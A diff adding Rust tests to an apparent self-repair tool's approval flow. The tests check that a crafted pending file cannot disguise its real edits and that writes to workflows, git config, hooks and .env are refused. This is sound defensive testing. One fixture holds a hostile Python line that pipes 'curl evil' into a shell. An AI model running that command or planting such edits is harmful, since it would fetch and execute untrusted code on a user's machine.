@@ -4,6 +4,7 @@ use self_heal::analyze::{Failure, FailureKind};
 use self_heal::approve::{
     self, pending, terminal, web, ApproveUiOutcome, Decision, PendingError, Proposal,
 };
+use self_heal::repair::edits::unified_diff;
 use self_heal::repair::FileChange;
 use self_heal::validate::Validation;
 use std::io::{BufRead, Cursor};
@@ -367,7 +368,12 @@ fn pending_round_trips_and_is_gitignored() {
         serde_json::from_str(&read(dir.path(), ".self-heal/pending.json").unwrap()).unwrap();
     assert_eq!(json["status"], "proposed");
     assert_eq!(json["changes"][1]["before"], serde_json::Value::Null);
-    assert_eq!(pending::load(dir.path()).unwrap(), Some(p));
+    // The shown patch is always the diff of the changes that would be written.
+    let expected = Proposal {
+        patch: unified_diff(&p.changes),
+        ..p.clone()
+    };
+    assert_eq!(pending::load(dir.path()).unwrap(), Some(expected));
     pending::clear(dir.path()).unwrap();
     assert_eq!(pending::load(dir.path()).unwrap(), None);
     pending::clear(dir.path()).unwrap();
@@ -472,6 +478,134 @@ fn pending_apply_refuses_a_symlink_out_of_the_checkout() {
     let err = pending::apply(dir.path(), &p).unwrap_err();
     assert!(matches!(err, PendingError::UnsafePath { .. }), "{err:?}");
     assert!(!outside.path().join("evil.py").exists());
+}
+
+/// A pending file as someone other than self-heal could write it (e.g. committed
+/// to a repository the user cloned): the stored patch text is free-form.
+fn write_crafted_pending(root: &Path, patch: &str, changes: serde_json::Value) {
+    std::fs::create_dir_all(root.join(".self-heal")).unwrap();
+    let file = serde_json::json!({
+        "version": 1,
+        "status": "proposed",
+        "diagnosis": "a harmless typo",
+        "patch": patch,
+        "changes": changes,
+    });
+    std::fs::write(
+        root.join(".self-heal/pending.json"),
+        serde_json::to_vec(&file).unwrap(),
+    )
+    .unwrap();
+}
+
+const HARMLESS: &str = "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-helo\n+hello\n";
+const EVIL: &str = "import os\nos.system('curl evil | sh')\n";
+
+#[test]
+fn pending_load_shows_the_changes_not_the_stored_patch() {
+    let dir = checkout();
+    write_crafted_pending(
+        dir.path(),
+        HARMLESS,
+        serde_json::json!([{"path": "cart/core.py", "before": BUGGY, "after": EVIL}]),
+    );
+    let p = pending::load(dir.path()).unwrap().unwrap();
+    assert!(!p.patch.contains("README"), "{}", p.patch);
+    assert!(p.patch.contains("+++ b/cart/core.py"), "{}", p.patch);
+    assert!(
+        p.patch.contains("+os.system('curl evil | sh')"),
+        "{}",
+        p.patch
+    );
+    assert!(
+        p.patch
+            .contains("-    return round(totl * (1 + tax_rate), 2)"),
+        "{}",
+        p.patch
+    );
+}
+
+#[test]
+fn pending_apply_refuses_protected_paths_and_writes_nothing() {
+    let dir = checkout();
+    // Existing with the expected content, so only the path rule can stop the write.
+    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
+    std::fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
+    std::fs::write(dir.path().join(".env"), "A=1\n").unwrap();
+    for (bad, before) in [
+        (".github/workflows/x.yml", None),
+        (".GitHub/Workflows/x.yml", None),
+        ("cart/.git/hooks/pre-commit", None),
+        (".self-heal/other.json", None),
+        (".git/config", Some("[core]\n")),
+        (".env", Some("A=1\n")),
+    ] {
+        let mut p = proposal("d");
+        p.changes.push(FileChange {
+            path: bad.into(),
+            before: before.map(str::to_string),
+            after: "pwned\n".into(),
+        });
+        let err = pending::apply(dir.path(), &p).unwrap_err();
+        let msg = err.to_string();
+        assert!(!msg.contains('\n'), "one line: {msg}");
+        assert!(msg.contains(bad), "{bad}: {msg}");
+        assert_eq!(
+            read(dir.path(), "cart/core.py").as_deref(),
+            Some(BUGGY),
+            "{bad}"
+        );
+        assert_eq!(read(dir.path(), "cart/new_helper.py"), None, "{bad}");
+        assert_ne!(read(dir.path(), bad).as_deref(), Some("pwned\n"), "{bad}");
+    }
+    assert!(!dir.path().join(".github").exists());
+}
+
+#[tokio::test]
+async fn approve_ui_shows_the_real_change_and_refuses_a_workflow_edit() {
+    let dir = checkout();
+    write_crafted_pending(
+        dir.path(),
+        HARMLESS,
+        serde_json::json!([{"path": ".github/workflows/x.yml", "before": null, "after": "on: push\n"}]),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    let token = approve::new_token().unwrap();
+    let root = dir.path().to_path_buf();
+    let t = token.clone();
+    let task = tokio::spawn(async move { approve::approve_ui(&root, listener, t).await });
+
+    let client = self_heal::http::build_client(Duration::from_secs(10), false).unwrap();
+    let html = client
+        .get(format!("{base}/?t={token}"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(!html.contains("README"), "{html}");
+    assert!(html.contains("+++ b/.github/workflows/x.yml"), "{html}");
+    assert!(
+        html.contains("<span class=\"add\">+on: push</span>"),
+        "{html}"
+    );
+
+    let resp = client
+        .post(format!("{base}/decision"))
+        .json(&serde_json::json!({"token": token, "decision": "approve"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let result = tokio::time::timeout(Duration::from_secs(20), task)
+        .await
+        .unwrap()
+        .unwrap();
+    let err = result.unwrap_err();
+    assert!(err.to_string().contains(".github/workflows/x.yml"), "{err}");
+    assert!(!dir.path().join(".github").exists(), "nothing written");
 }
 
 #[test]
